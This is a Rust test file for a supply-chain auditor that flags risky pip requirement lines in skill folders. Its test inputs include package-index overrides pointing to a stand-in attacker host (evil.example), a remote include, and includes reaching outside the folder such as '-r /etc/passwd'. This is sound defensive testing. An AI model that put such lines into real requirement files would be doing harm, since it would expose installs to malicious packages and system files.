//! Requirement files: each pip option refused on its own (and accepted by policy), direct
//! references, `-r` includes kept inside the folder, parsing details.

use skillcell_supply::{AuditPolicy, audit};
use skillcell_types::finding::Severity;

use crate::common::{audit_strict, none, one, skill, with_rule};

/// `line` in a requirement file is reported under `rule` as critical, at line 2 (after a
/// pinned requirement), and as info when `policy` accepts it.
fn refused(line: &str, rule: &str, policy: AuditPolicy) {
    let text = format!("six==1.16.0\n{line}\n");
    let dir = skill(&[("requirements.txt", &text)]);
    let strict = audit_strict(dir.path(), None);
    let f = one(&strict, rule);
    assert_eq!(f.severity, Severity::Critical, "{line}");
    assert_eq!((f.file.as_str(), f.line), ("requirements.txt", 2), "{line}");
    assert!(!f.hint.is_empty());
    let allowed = audit(dir.path(), None, &policy).expect("audit");
    assert_eq!(
        one(&allowed, rule).severity,
        Severity::Info,
        "{line} allowed by policy"
    );
}

fn pip_options_allowed() -> AuditPolicy {
    AuditPolicy {
        allow_pip_options: true,
        ..AuditPolicy::default()
    }
}

fn direct_allowed() -> AuditPolicy {
    AuditPolicy {
        allow_direct_references: true,
        ..AuditPolicy::default()
    }
}

#[test]
fn index_url_is_refused() {
    refused(
        "--index-url https://evil.example/simple",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn index_url_with_equals_is_refused() {
    refused(
        "--index-url=https://evil.example/simple",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn short_index_url_is_refused() {
    refused(
        "-i https://evil.example/simple",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn attached_short_index_url_is_refused() {
    refused(
        "-ihttps://evil.example/simple",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn extra_index_url_is_refused() {
    refused(
        "--extra-index-url https://evil.example/simple",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn no_index_is_refused() {
    refused(
        "--no-index",
        "dep-pip-index-override",
        pip_options_allowed(),
    );
}

#[test]
fn trusted_host_is_refused() {
    refused(
        "--trusted-host evil.example",
        "dep-pip-trusted-host",
        pip_options_allowed(),
    );
}

#[test]
fn find_links_is_refused() {
    refused(
        "--find-links https://evil.example/wheels/",
        "dep-pip-find-links",
        pip_options_allowed(),
    );
}

#[test]
fn short_find_links_is_refused() {
    refused("-f ./wheels", "dep-pip-find-links", pip_options_allowed());
}

#[test]
fn editable_is_refused() {
    refused(
        "-e git+https://github.com/x/y.git#egg=y",
        "dep-editable",
        direct_allowed(),
    );
}

#[test]
fn long_editable_is_refused() {
    refused("--editable ./src", "dep-editable", direct_allowed());
}

#[test]
fn pre_is_refused() {
    refused("--pre", "dep-pip-pre", pip_options_allowed());
}

#[test]
fn constraint_file_is_refused() {
    refused(
        "-c constraints.txt",
        "dep-pip-constraint",
        pip_options_allowed(),
    );
}

#[test]
fn long_constraint_is_refused() {
    refused(
        "--constraint constraints.txt",
        "dep-pip-constraint",
        pip_options_allowed(),
    );
}

#[test]
fn any_other_option_is_refused() {
    refused("--no-binary :all:", "dep-pip-option", pip_options_allowed());
}

#[test]
fn an_abbreviated_option_is_refused() {
    // optparse accepts unambiguous prefixes: `--extra-index` is `--extra-index-url` to pip.
    refused(
        "--extra-index https://evil.example/simple",
        "dep-pip-option",
        pip_options_allowed(),
    );
}

#[test]
fn a_per_requirement_option_is_refused() {
    refused(
        "numpy==1.26.4 --global-option=build_ext",
        "dep-pip-option",
        pip_options_allowed(),
    );
}

#[test]
fn a_direct_url_reference_is_refused() {
    refused(
        "pip @ https://github.com/pypa/pip/archive/1.3.1.zip",
        "dep-direct-url",
        direct_allowed(),
    );
}

#[test]
fn a_bare_url_is_refused() {
    refused(
        "https://evil.example/pkg-1.0.tar.gz",
        "dep-direct-url",
        direct_allowed(),
    );
}

#[test]
fn a_vcs_url_is_refused() {
    refused(
        "git+https://github.com/x/y.git@main#egg=y",
        "dep-direct-url",
        direct_allowed(),
    );
}

#[test]
fn a_local_path_is_refused() {
    refused("./vendor/pkg", "dep-direct-url", direct_allowed());
}

#[test]
fn a_local_wheel_is_refused() {
    refused(
        "pkg-1.0-py3-none-any.whl",
        "dep-direct-url",
        direct_allowed(),
    );
}

#[test]
fn hashes_are_accepted() {
    let dir = skill(&[(
        "requirements.txt",
        "--require-hashes\nsix==1.16.0 \\\n    --hash=sha256:1e61c37477a1626458e36f7b1d82aa5c9b094fa4802892072e49de9c60c4c926\n",
    )]);
    let report = audit_strict(dir.path(), None);
    assert!(
        report.findings.iter().all(|f| f.severity <= Severity::Info),
        "{:#?}",
        report.findings
    );
    assert_eq!(report.dependencies.len(), 1);
    assert_eq!(report.dependencies[0].pinned.as_deref(), Some("1.16.0"));
}

#[test]
fn an_include_inside_the_folder_is_read() {
    let dir = skill(&[
        ("requirements.txt", "-r deps/base.txt\n"),
        ("deps/base.txt", "# base\n-r ./more.txt\nsix==1.16.0\n"),
        ("deps/more.txt", "idna==3.7\n"),
    ]);
    let report = audit_strict(dir.path(), None);
    let names: Vec<(&str, &str, u32)> = report
        .dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.file.as_str(), d.line))
        .collect();
    assert_eq!(
        names,
        [("six", "deps/base.txt", 3), ("idna", "deps/more.txt", 1)]
    );
    assert!(with_rule(&report, "dep-include-escape").is_empty());
}

#[test]
fn an_include_cycle_ends() {
    let dir = skill(&[
        ("requirements.txt", "-r requirements-dev.txt\nsix==1.16.0\n"),
        ("requirements-dev.txt", "-r requirements.txt\nidna==3.7\n"),
    ]);
    let report = audit_strict(dir.path(), None);
    assert_eq!(report.dependencies.len(), 2, "{:#?}", report.dependencies);
}

#[test]
fn an_include_through_dotdot_is_refused() {
    let dir = skill(&[("reqs/requirements.txt", "-r ../../outside.txt\n")]);
    let f = one(&audit_strict(dir.path(), None), "dep-include-escape").clone();
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.message.contains(".."), "{}", f.message);
    // Inside the folder `..` is fine.
    let dir = skill(&[
        ("reqs/requirements.txt", "-r ../base.txt\n"),
        ("base.txt", "six==1.16.0\n"),
    ]);
    let report = audit_strict(dir.path(), None);
    none(&report, "dep-include-escape");
    assert_eq!(report.dependencies.len(), 1);
}

#[test]
fn an_absolute_include_is_refused() {
    let dir = skill(&[("requirements.txt", "-r /etc/passwd\n")]);
    one(&audit_strict(dir.path(), None), "dep-include-escape");
}

#[test]
fn a_remote_include_is_refused() {
    let dir = skill(&[(
        "requirements.txt",
        "--requirement https://evil.example/r.txt\n",
    )]);
    one(&audit_strict(dir.path(), None), "dep-include-escape");
}

#[cfg(unix)]
#[test]
fn an_include_through_a_symlink_out_is_refused() {
    let outside = tempfile::TempDir::new().expect("tmp");
    std::fs::write(outside.path().join("r.txt"), "six==1.16.0\n").expect("write");
    let dir = skill(&[("requirements.txt", "-r link.txt\n")]);
    std::os::unix::fs::symlink(outside.path().join("r.txt"), dir.path().join("link.txt"))
        .expect("symlink");
    let report = audit_strict(dir.path(), None);
    one(&report, "dep-include-escape");
    assert!(report.dependencies.is_empty());
}

#[test]
fn a_missing_include_is_reported() {
    let dir = skill(&[("requirements.txt", "-r nowhere.txt\n")]);
    assert_eq!(
        one(&audit_strict(dir.path(), None), "dep-include-missing").severity,
        Severity::High
    );
}

#[test]
fn comments_continuations_and_markers_are_parsed() {
    let dir = skill(&[(
        "requirements.txt",
        "# a comment\n\nRequests[socks] == 2.32.3 ; python_version >= \"3.8\"  # pinned\nnumpy \\\n  >=1.26\n",
    )]);
    let report = audit_strict(dir.path(), None);
    let deps = &report.dependencies;
    assert_eq!(deps.len(), 2, "{deps:#?}");
    assert_eq!((deps[0].name.as_str(), deps[0].line), ("requests", 3));
    assert_eq!(deps[0].pinned.as_deref(), Some("2.32.3"));
    assert_eq!(
        (deps[1].name.as_str(), deps[1].line, deps[1].spec.as_str()),
        ("numpy", 4, ">=1.26")
    );
    assert!(
        report.findings.iter().all(|f| f.severity <= Severity::Low),
        "{:#?}",
        report.findings
    );
}

#[test]
fn an_unparsable_requirement_is_reported() {
    let dir = skill(&[("requirements.txt", "six=1.16.0\n")]);
    let f = one(&audit_strict(dir.path(), None), "dep-unparsable").clone();
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.line, 1);
}

#[test]
fn unpinned_requirements_are_low() {
    let dir = skill(&[("requirements.txt", "six\nidna>=3\nattrs==23.2.0\n")]);
    let report = audit_strict(dir.path(), None);
    let unpinned = with_rule(&report, "dep-unpinned");
    assert_eq!(unpinned.len(), 2, "{unpinned:#?}");
    assert!(unpinned.iter().all(|f| f.severity == Severity::Low));
    assert_eq!((unpinned[0].line, unpinned[1].line), (1, 2));
}
